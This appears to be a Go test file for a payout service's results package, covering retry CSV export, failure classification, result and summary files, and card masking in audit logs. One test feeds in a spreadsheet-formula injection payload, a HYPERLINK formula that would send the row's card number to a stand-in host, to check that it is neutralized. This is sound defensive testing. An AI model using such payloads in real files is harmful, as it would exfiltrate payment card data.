package results

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/acme/payout/internal/decide"
	"github.com/acme/payout/internal/ledger"
	"github.com/acme/payout/internal/lifecycle"
	"github.com/acme/payout/internal/money"
	"github.com/acme/payout/internal/report"
	"github.com/alicebob/miniredis/v2"
	"github.com/redis/go-redis/v9"
	"github.com/xuri/excelize/v2"
)

// failedLedger is batch "b" of four payouts: PO-1 paid, PO-2 failed (card
// blocked), PO-3 failed (account closed), PO-4 failed (card expired, a
// telecom payout).
func failedLedger(t *testing.T) *ledger.Ledger {
	t.Helper()
	ctx := context.Background()
	rdb := redis.NewClient(&redis.Options{Addr: miniredis.RunT(t).Addr()})
	t.Cleanup(func() { rdb.Close() })
	l := ledger.New(rdb)
	rows := []struct{ ext, amount, reason string }{
		{"PO-1", "100.10", ""}, {"PO-2", "20.00", "card blocked by issuer"}, {"PO-3", "3.30", "PSP status Failed: account closed"},
		{"PO-4", "4.00", "Card expired"},
	}
	var ps []ledger.NewPayout
	total := money.Zero
	for i, r := range rows {
		a := money.MustParse(r.amount)
		total = total.Add(a)
		p := ledger.NewPayout{Line: i + 2, ExternalID: r.ext, Amount: a, Sealed: "sealed-" + r.ext, Destination: "card 411111******1111"}
		if r.ext == "PO-4" {
			p = ledger.NewPayout{Line: i + 2, ExternalID: r.ext, Amount: a, Telecom: "MTS", Destination: "telecom MTS"}
		}
		ps = append(ps, p)
	}
	if _, _, err := l.BeginBatch(ctx, ledger.Batch{ID: "b", File: "f.csv", LoadedAt: time.Now(), Rows: 4, Total: total, Scale: 2}); err != nil {
		t.Fatal(err)
	}
	if _, err := l.Register(ctx, "b", ps, 2); err != nil {
		t.Fatal(err)
	}
	if err := l.FinishBatch(ctx, "b"); err != nil { // as the loader does, before any task
		t.Fatal(err)
	}
	for _, r := range rows {
		if _, err := l.BeginCreate(ctx, "b", r.ext, 1); err != nil {
			t.Fatal(err)
		}
		if _, err := l.FinishCreate(ctx, "b", r.ext, 1, decide.CreateResult{To: lifecycle.Created, OrderID: "WD-" + r.ext, PSPStatus: "Created", OutcomeWindow: time.Hour}); err != nil {
			t.Fatal(err)
		}
		v := decide.VerdictFailed
		if r.reason == "" {
			v = decide.VerdictPaid
		}
		_, s, err := l.Snapshot(ctx, "b", r.ext)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := l.RecordOutcome(ctx, s, 1, decide.OutcomeAnswer{Verdict: v, PSPStatus: "Done", Reason: r.reason, HTTPStatus: 200}); err != nil {
			t.Fatal(err)
		}
	}
	return l
}

type fakeKeys struct{}

func (fakeKeys) Open(sealed, _ string) (string, error) {
	return map[string]string{"sealed-PO-2": "4111111111111111", "sealed-PO-3": "5555555555554444"}[sealed], nil
}

func TestFinalFailure(t *testing.T) {
	for reason, final := range map[string]bool{
		"account closed": true, "PSP status Failed: Account Closed": true, "card expired": true,
		"card blocked by issuer": false, "recipient bank rejected the transfer": false, "recipient limit exceeded": false,
		"": false, "something new": false,
	} {
		if FinalFailure(reason) != final {
			t.Errorf("FinalFailure(%q) = %v, want %v", reason, !final, final)
		}
	}
}

func TestWriteRetry(t *testing.T) {
	l := failedLedger(t)
	ctx := context.Background()
	for _, tt := range []struct {
		name  string
		o     RetryOptions
		want  string
		final int
	}{
		{"loadable, final failures left out", RetryOptions{Keys: fakeKeys{}},
			"externalId,amount,cardNumber,telecomOperator,reason\nPO-2-R1,20.00,4111111111111111,,card blocked by issuer\n", 2},
		{"loadable, all", RetryOptions{Keys: fakeKeys{}, IncludeFinal: true},
			"externalId,amount,cardNumber,telecomOperator,reason\nPO-2-R1,20.00,4111111111111111,,card blocked by issuer\n" +
				"PO-3-R1,3.30,5555555555554444,,PSP status Failed: account closed\nPO-4-R1,4.00,,MTS,Card expired\n", 0},
		{"masked, for the UI", RetryOptions{IncludeFinal: true},
			"externalId,amount,cardNumber,telecomOperator,reason\nPO-2-R1,20.00,411111******1111,,card blocked by issuer\n" +
				"PO-3-R1,3.30,411111******1111,,PSP status Failed: account closed\nPO-4-R1,4.00,,MTS,Card expired\n", 0},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			res, err := WriteRetry(ctx, l, "b", &buf, tt.o)
			if err != nil {
				t.Fatal(err)
			}
			if buf.String() != tt.want || res.Final != tt.final {
				t.Errorf("wrote (%d left out):\n%s\nwant (%d):\n%s", res.Final, buf.String(), tt.final, tt.want)
			}
		})
	}
}

// TestWriteFiles: a CSV result gets its summary file beside it; an XLSX
// result has both sheets and no summary file.
func TestWriteFiles(t *testing.T) {
	l := failedLedger(t)
	ctx := context.Background()
	dir := t.TempDir()
	sum, files, err := WriteFiles(ctx, l, "b", filepath.Join(dir, "f.csv.result.csv"), "", report.CSVOptions{})
	if err != nil || len(files) != 2 || files[1].Path != filepath.Join(dir, "f.csv.summary.txt") || !sum.Reconciled {
		t.Fatalf("%v %+v %v", err, files, sum.Reconciled)
	}
	res, _ := os.ReadFile(files[0].Path)
	txt, _ := os.ReadFile(files[1].Path)
	if strings.Count(string(res), "\n") != 5 || strings.Contains(string(res), "#") || !strings.Contains(string(txt), "reconciled: 127.40 = 127.40 (4 rows)") {
		t.Errorf("result:\n%s\nsummary:\n%s", res, txt)
	}
	_, files, err = WriteFiles(ctx, l, "b", filepath.Join(dir, "f.xlsx"), "", report.CSVOptions{})
	if err != nil || len(files) != 1 {
		t.Fatalf("%v %+v", err, files)
	}
	f, err := excelize.OpenFile(files[0].Path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); len(got) != 2 || got[0] != "Payouts" || got[1] != "Summary" {
		t.Errorf("sheets %v", got)
	}
	rows, _ := f.GetRows("Payouts")
	if len(rows) != 5 || rows[1][2] != "100.10" {
		t.Errorf("Payouts: %q", rows)
	}
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		if strings.HasSuffix(e.Name(), ".tmp") {
			t.Errorf("temporary file left: %s", e.Name())
		}
	}
}

// TestWriteAudit: one JSON object a line, the trail of every transition,
// card numbers in notes masked.
func TestWriteAudit(t *testing.T) {
	l := failedLedger(t)
	ctx := context.Background()
	if _, _, err := l.BeginBatch(ctx, ledger.Batch{ID: "c", File: "c.csv", LoadedAt: time.Now(), Rows: 1, Total: money.MustParse("1"), Scale: 2}); err != nil {
		t.Fatal(err)
	}
	if _, err := l.Register(ctx, "c", []ledger.NewPayout{{Line: 2, ExternalID: "C-1", Amount: money.MustParse("1"), Telecom: "MTS"}}, 2); err != nil {
		t.Fatal(err)
	}
	if _, err := l.Cancel(ctx, "c", "C-1", "carol", "card 4111 1111 1111 1111 is stolen"); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := WriteAudit(ctx, l, "c", &buf); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), `"to":"cancelled"`) || strings.Contains(buf.String(), "4111 1111 1111 1111") || !strings.Contains(buf.String(), "411111******1111") {
		t.Errorf("audit:\n%s", buf.String())
	}
}

// TestWriteRetryNeutralizesHeaders: the names of a file's extra and
// informational columns are written to the retry file, which holds clear
// card numbers; a name such as =HYPERLINK(...&C2) gets the leading quote
// every other cell gets, so that no spreadsheet turns it into a formula
// that carries the card number of its row away.
func TestWriteRetryNeutralizesHeaders(t *testing.T) {
	ctx := context.Background()
	rdb := redis.NewClient(&redis.Options{Addr: miniredis.RunT(t).Addr()})
	t.Cleanup(func() { rdb.Close() })
	l := ledger.New(rdb)
	link := `=HYPERLINK("http://x.example/?"&C2,"open")`
	p := ledger.NewPayout{Line: 2, ExternalID: "PO-2", Amount: money.MustParse("20.00"), Sealed: "sealed-PO-2", Destination: "card 411111******1111",
		Extra: `[{"key":"@cmd","value":"+7 900 123-45-67"}]`, Info: "-1+1\x1f=1+2"}
	if _, _, err := l.BeginBatch(ctx, ledger.Batch{ID: "b", File: "f.csv", LoadedAt: time.Now(), Rows: 1, Total: p.Amount, Scale: 2,
		InfoColumns: []string{link, "+notes"}}); err != nil {
		t.Fatal(err)
	}
	if _, err := l.Register(ctx, "b", []ledger.NewPayout{p}, 2); err != nil {
		t.Fatal(err)
	}
	if err := l.FinishBatch(ctx, "b"); err != nil {
		t.Fatal(err)
	}
	if _, err := l.BeginCreate(ctx, "b", "PO-2", 1); err != nil {
		t.Fatal(err)
	}
	if _, err := l.FinishCreate(ctx, "b", "PO-2", 1, decide.CreateResult{To: lifecycle.Created, OrderID: "WD-2", PSPStatus: "Created", OutcomeWindow: time.Hour}); err != nil {
		t.Fatal(err)
	}
	_, s, err := l.Snapshot(ctx, "b", "PO-2")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := l.RecordOutcome(ctx, s, 1, decide.OutcomeAnswer{Verdict: decide.VerdictFailed, PSPStatus: "Done", Reason: "=card blocked", HTTPStatus: 200}); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if _, err := WriteRetry(ctx, l, "b", &buf, RetryOptions{Keys: fakeKeys{}, IncludeFinal: true}); err != nil {
		t.Fatal(err)
	}
	want := `externalId,amount,cardNumber,telecomOperator,'@cmd,"'=HYPERLINK(""http://x.example/?""&C2,""open"")",'+notes,reason` + "\n" +
		"PO-2-R1,20.00,4111111111111111,,+7 900 123-45-67,-1+1,'=1+2,'=card blocked\n"
	if buf.String() != want {
		t.Errorf("wrote:\n%s\nwant:\n%s", buf.String(), want)
	}
}
